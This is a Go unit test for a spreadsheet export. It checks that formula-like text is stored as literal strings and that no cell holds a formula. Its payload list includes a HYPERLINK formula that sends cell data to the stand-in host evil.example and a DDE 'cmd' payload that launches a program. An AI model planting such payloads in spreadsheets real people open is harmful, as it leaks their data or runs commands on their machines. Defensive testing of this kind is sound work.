package xlsx

import (
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/briefing-tool/briefing/pipeline"
)

// TestFormulaInjection puts text that a spreadsheet would take for a
// formula into every kind of text cell: it must come back as the literal
// string, stored as text, and no sheet may contain a formula.
func TestFormulaInjection(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		`+1+1`,
		`-2+3`,
		`@SUM(1,2)`,
		`=cmd|' /C calc'!A0`,
		"\t=1+1",
	}
	day := time.Date(2025, 10, 25, 0, 0, 0, 0, time.UTC)
	var events []*pipeline.Event
	for _, p := range payloads {
		events = append(events, &pipeline.Event{
			ID: p, Date: day, Kind: kindOf("meeting"), Status: "held", Title: p, Location: p, Summary: p,
			Countries:    []string{"AZE", "GEO"},
			FocusAreas:   []string{p},
			Outcomes:     []string{p},
			Participants: []pipeline.Participant{{Name: p, Rank: p, Role: p, Organization: p}},
			Sources:      []pipeline.Source{{Title: p, Publisher: p, URL: p}},
		})
	}
	r := &pipeline.Report{Title: payloads[0], Events: events, Filters: []string{payloads[1]}, Version: payloads[3]}
	b := render(t, r, Options{})
	f := open(t, b)

	checked := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for ri, row := range rows {
			for ci, v := range row {
				ref, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
					t.Errorf("%s!%s holds the formula %q", sheet, ref, formula)
				}
				for _, p := range payloads {
					if strings.Contains(v, strings.TrimSpace(p)) {
						checked++
						if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeInlineString {
							t.Errorf("%s!%s = %q has type %v, want an inline string", sheet, ref, v, typ)
						}
					}
				}
			}
		}
	}
	if checked < len(payloads)*10 {
		t.Errorf("only %d cells carried a payload", checked)
	}
	// The literal value, not a computed one.
	if got, _ := f.GetCellValue("Events", "F2"); got != r.Events[0].Title {
		t.Errorf("Events!F2 = %q, want %q", got, r.Events[0].Title)
	}

	_, parts := unzip(t, b)
	for name, xml := range parts {
		if strings.HasPrefix(name, "xl/worksheets/sheet") && strings.Contains(string(xml), "<f>") {
			t.Errorf("%s contains a <f> element", name)
		}
	}
}
